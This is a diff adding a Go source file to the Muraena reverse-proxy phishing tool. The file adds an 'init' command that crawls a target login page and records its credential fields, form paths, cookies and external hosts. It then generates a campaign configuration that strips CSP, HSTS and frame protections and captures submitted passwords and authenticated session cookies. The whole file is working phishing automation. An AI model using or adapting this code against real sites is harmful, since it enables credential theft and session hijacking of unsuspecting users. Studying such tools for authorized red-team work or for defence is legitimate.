@@ -0,0 +1,399 @@
+package proxy
+
+import (
+	"bytes"
+	"flag"
+	"fmt"
+	"io"
+	"io/ioutil"
+	"net"
+	"net/http"
+	"net/http/cookiejar"
+	"net/url"
+	"os"
+	"regexp"
+	"sort"
+	"strconv"
+	"strings"
+	"text/template"
+	"time"
+
+	"golang.org/x/net/html"
+	"golang.org/x/net/publicsuffix"
+
+	"github.com/muraenateam/muraena/core"
+)
+
+// credentialField matches the names of the form fields usually carrying the credentials
+var credentialField = regexp.MustCompile(`(?i)user|login|mail|pass|account|identifier`)
+
+// discovery is what is learned from the landing page of a target and its scripts and stylesheets
+type discovery struct {
+	Landing  *url.URL
+	Target   string
+	Phishing string
+
+	// hosts are the referenced hosts outside of the target domain
+	hosts map[string]bool
+	// cookies are the names of the cookies set by the target
+	cookies map[string]bool
+	// forms are the paths the target forms are submitted to
+	forms map[string]bool
+	// fields are the names of the credential fields of the forms
+	fields map[string]bool
+}
+
+// newDiscovery returns an empty discovery of the landing page.
+// The target is the registrable domain of the landing page, its subdomains being proxied without being listed.
+func newDiscovery(landing *url.URL, phishing string) *discovery {
+	host := strings.ToLower(landing.Hostname())
+	target := host
+	if net.ParseIP(host) == nil {
+		if domain, err := publicsuffix.EffectiveTLDPlusOne(host); err == nil {
+			target = domain
+		}
+	}
+
+	return &discovery{
+		Landing:  landing,
+		Target:   target,
+		Phishing: phishing,
+		hosts:    make(map[string]bool),
+		cookies:  make(map[string]bool),
+		forms:    make(map[string]bool),
+		fields:   make(map[string]bool),
+	}
+}
+
+// inTarget checks if the host belongs to the target domain
+func (d *discovery) inTarget(host string) bool {
+	return host == d.Target || strings.HasSuffix(host, "."+d.Target)
+}
+
+// addHost records a referenced host, if outside of the target domain
+func (d *discovery) addHost(host string) {
+	host = strings.ToLower(strings.TrimSuffix(host, "."))
+	if host == "" || d.inTarget(host) || isDryRunIgnored(host) {
+		return
+	}
+	d.hosts[host] = true
+}
+
+// roundTrip wraps the transport, recording the hosts of the redirects and the cookies set by the target
+func (d *discovery) roundTrip(next http.RoundTripper) http.RoundTripper {
+	return roundTripperFunc(func(req *http.Request) (*http.Response, error) {
+		d.addHost(req.URL.Hostname())
+
+		resp, err := next.RoundTrip(req)
+		if err != nil {
+			return nil, err
+		}
+
+		if d.inTarget(strings.ToLower(req.URL.Hostname())) {
+			for _, c := range resp.Cookies() {
+				d.cookies[c.Name] = true
+			}
+		}
+		return resp, nil
+	})
+}
+
+type roundTripperFunc func(*http.Request) (*http.Response, error)
+
+func (f roundTripperFunc) RoundTrip(req *http.Request) (*http.Response, error) {
+	return f(req)
+}
+
+// Crawl fetches the landing page, then up to maxResources of its scripts and stylesheets
+func (d *discovery) Crawl(client *http.Client, maxResources int) error {
+	page, base, err := fetch(client, d.Landing.String())
+	if err != nil {
+		return err
+	}
+
+	resources := d.parseHTML(page, base)
+	d.scan(string(page))
+
+	for i, resource := range resources {
+		if i >= maxResources {
+			break
+		}
+
+		content, _, err := fetch(client, resource)
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "Skipping %s: %s\n", resource, err)
+			continue
+		}
+		d.scan(string(content))
+	}
+
+	return nil
+}
+
+// fetch returns the body of the URL and the final URL, once the redirects are followed
+func fetch(client *http.Client, u string) ([]byte, *url.URL, error) {
+	resp, err := client.Get(u)
+	if err != nil {
+		return nil, nil, err
+	}
+	defer resp.Body.Close()
+
+	body, err := ioutil.ReadAll(io.LimitReader(resp.Body, 8<<20))
+	if err != nil {
+		return nil, nil, err
+	}
+
+	return body, resp.Request.URL, nil
+}
+
+// parseHTML records the hosts, forms and credential fields of the page,
+// returning the scripts and stylesheets to fetch
+func (d *discovery) parseHTML(page []byte, base *url.URL) (resources []string) {
+	z := html.NewTokenizer(bytes.NewReader(page))
+	for {
+		tt := z.Next()
+		if tt == html.ErrorToken {
+			return
+		}
+		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
+			continue
+		}
+
+		name, _ := z.TagName()
+		attrs := make(map[string]string)
+		for {
+			key, value, more := z.TagAttr()
+			attrs[string(key)] = string(value)
+			if !more {
+				break
+			}
+		}
+
+		for _, attr := range []string{"src", "href", "action", "data-src"} {
+			ref, err := base.Parse(attrs[attr])
+			if attrs[attr] == "" || err != nil || (ref.Scheme != "http" && ref.Scheme != "https") {
+				continue
+			}
+			d.addHost(ref.Hostname())
+
+			switch {
+			case string(name) == "script" && attr == "src",
+				string(name) == "link" && attr == "href" && strings.Contains(strings.ToLower(attrs["rel"]), "stylesheet"):
+				resources = append(resources, ref.String())
+			case string(name) == "form" && attr == "action" && d.inTarget(strings.ToLower(ref.Hostname())):
+				d.forms[ref.Path] = true
+			}
+		}
+
+		switch string(name) {
+		case "form":
+			if _, ok := attrs["action"]; !ok {
+				d.forms[base.Path] = true
+			}
+		case "input":
+			field := attrs["name"]
+			if field != "" && (strings.EqualFold(attrs["type"], "password") || credentialField.MatchString(field)) {
+				d.fields[field] = true
+			}
+		}
+	}
+}
+
+// scan records the hosts referenced by the content, i.e. by the inline and fetched scripts
+func (d *discovery) scan(content string) {
+	for _, match := range dryRunReference.FindAllStringSubmatch(content, -1) {
+		d.addHost(match[1])
+	}
+}
+
+func sortedKeys(m map[string]bool) []string {
+	keys := make([]string, 0, len(m))
+	for k := range m {
+		keys = append(keys, k)
+	}
+	sort.Strings(keys)
+	return keys
+}
+
+// starterConfig is the template of the generated configuration
+var starterConfig = template.Must(template.New("config").Funcs(template.FuncMap{"quote": strconv.Quote}).Parse(`#
+# Starter configuration generated by {{.Name}} v{{.Version}} from {{.Landing}}
+# Review every section before the campaign, i.e. with a dry run (see https://muraena.phishing.click/docs/dryrun)
+#
+
+[proxy]
+    phishing = {{quote .Phishing}}
+    destination = {{quote .Target}}
+
+    [proxy.HTTPtoHTTPS]
+    enable = true
+    port = 80
+
+
+#
+# Origins
+# See: https://muraena.phishing.click/docs/origins
+#
+[origins]
+    externalOriginPrefix = "cdn-"
+    externalOrigins = [{{range .Origins}}
+        {{quote .}},{{end}}
+    ]
+
+
+#
+# Transform
+# See: https://muraena.phishing.click/docs/transform
+#
+[transform]
+    [transform.base64]
+        enable = false
+
+    [transform.request]
+        headers = [ "Cookie", "Referer", "Origin", "X-Forwarded-For" ]
+
+    [transform.response]
+        headers = [ "Location", "WWW-Authenticate", "Origin", "Set-Cookie", "Access-Control-Allow-Origin" ]
+
+        [transform.response.remove]
+        headers = [
+            "Content-Security-Policy",
+            "Content-Security-Policy-Report-Only",
+            "Strict-Transport-Security",
+            "X-XSS-Protection",
+            "X-Content-Type-Options",
+            "X-Frame-Options",
+            "Referrer-Policy",
+            "X-Forwarded-For",
+        ]
+
+
+[log]
+    enable = true
+    filePath = "muraena.log"
+
+
+#
+# TLS
+# See: https://muraena.phishing.click/docs/tls
+#
+[tls]
+    enable = true
+
+    # Placeholders: a certificate covering {{.Phishing}} and *.{{.Phishing}}
+    expand = false
+    certificate = "./config/{{.Phishing}}/cert.pem"
+    key = "./config/{{.Phishing}}/privkey.pem"
+    root = "./config/{{.Phishing}}/fullchain.pem"
+
+    minVersion = "TLS1.2"
+    renegotiationSupport = "Never"
+
+
+#
+# Tracking
+# See: https://muraena.phishing.click/modules/tracker
+#
+[tracking]
+    enable = false
+    trackRequestCookies = true
+
+    [tracking.trace]
+        identifier = "_gat"
+        validator = "[a-zA-Z0-9]{5}"
+
+        [tracking.trace.landing]
+            type = "query"
+
+    [tracking.secrets]
+        paths = [{{range .Forms}} {{quote .}},{{end}} ]
+{{range .Fields}}
+        [[tracking.secrets.patterns]]
+        label = {{quote .}}
+        start = {{printf "%s=" . | quote}}
+        end = "&"
+{{end}}
+    # Cookies set by the target: keep the ones constituting an authenticated session
+    [[tracking.sessions]]
+        name = {{quote .Target}}
+        cookies = [{{range .Cookies}} {{quote .}},{{end}} ]
+        domains = [ {{quote .Target}} ]
+`))
+
+// Config returns the starter configuration of the discovery
+func (d *discovery) Config() (string, error) {
+	var b strings.Builder
+	err := starterConfig.Execute(&b, map[string]interface{}{
+		"Name":     core.Name,
+		"Version":  core.Version,
+		"Landing":  d.Landing,
+		"Phishing": d.Phishing,
+		"Target":   d.Target,
+		"Origins":  suggestOrigins(sortedKeys(d.hosts)),
+		"Forms":    sortedKeys(d.forms),
+		"Fields":   sortedKeys(d.fields),
+		"Cookies":  sortedKeys(d.cookies),
+	})
+	return b.String(), err
+}
+
+// InitConfig runs the init subcommand, returning the exit code:
+// the landing page of the target is crawled and a starter configuration is generated,
+// with the discovered external origins, credential fields and cookies.
+func InitConfig(args []string) int {
+	flags := flag.NewFlagSet("init", flag.ExitOnError)
+	phishing := flags.String("phishing", "", "Phishing domain.")
+	output := flags.String("output", "", "Path of the generated config file, standard output if empty.")
+	resources := flags.Int("resources", 20, "Maximum number of scripts and stylesheets to fetch.")
+	timeout := flags.Int("timeout", 10, "Timeout of each request, in seconds.")
+	flags.Usage = func() {
+		fmt.Fprintf(flags.Output(), "Usage: muraena init -phishing <domain> [-output <file>] <target URL>\n")
+		flags.PrintDefaults()
+	}
+	_ = flags.Parse(args)
+
+	if *phishing == "" || flags.NArg() != 1 {
+		flags.Usage()
+		return 2
+	}
+
+	landing, err := url.Parse(flags.Arg(0))
+	if err != nil || landing.Hostname() == "" {
+		fmt.Fprintf(os.Stderr, "Invalid target URL %s\n", flags.Arg(0))
+		return 2
+	}
+	if landing.Scheme == "" {
+		landing.Scheme = "https"
+	}
+
+	d := newDiscovery(landing, core.DomainToASCII(*phishing))
+	jar, _ := cookiejar.New(&cookiejar.Options{PublicSuffixList: publicsuffix.List})
+	client := &http.Client{
+		Jar:       jar,
+		Timeout:   time.Duration(*timeout) * time.Second,
+		Transport: d.roundTrip(http.DefaultTransport),
+	}
+
+	if err := d.Crawl(client, *resources); err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+
+	config, err := d.Config()
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+
+	if *output == "" {
+		fmt.Print(config)
+		return 0
+	}
+
+	if err := ioutil.WriteFile(*output, []byte(config), 0600); err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+	fmt.Fprintf(os.Stderr, "Configuration of %s written to %s\n", d.Target, *output)
+	return 0
+}